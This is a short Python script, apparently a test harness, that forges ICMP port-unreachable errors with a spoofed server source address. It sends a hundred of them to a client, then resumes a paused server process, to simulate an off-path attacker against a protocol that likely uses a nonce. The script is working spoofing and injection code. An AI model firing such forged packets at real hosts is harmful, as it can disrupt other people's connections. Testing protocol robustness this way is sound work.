#!/usr/bin/env python3
"""Forges ICMP errors as somebody off the path does, who knows no more than two endpoints.

usage: forge_icmp.py SERVER CLIENT-ADDRESS CLIENT-PORT PROCESS

Port unreachable, a hundred times, from SERVER's own address; then the server, PROCESS, which was
stopped, goes on and answers.
"""
import os
import signal
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(protocol, source, destination, payload):
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(destination)
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def main():
    server, client, port, process = sys.argv[1:]
    # What RFC 792 asks for and no more: the nonce is behind these eight bytes.
    quoted = ip(17, client, server, struct.pack(">HHHH", int(port), 3544, 8 + 61, 0))
    body = b"\x03\x03\0\0" + bytes(4) + quoted
    error = ip(1, server, client, body[:2] + struct.pack(">H", checksum(body)) + body[4:])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(100):
        raw.sendto(error, (client, 0))
    os.kill(int(process), signal.SIGCONT)


main()
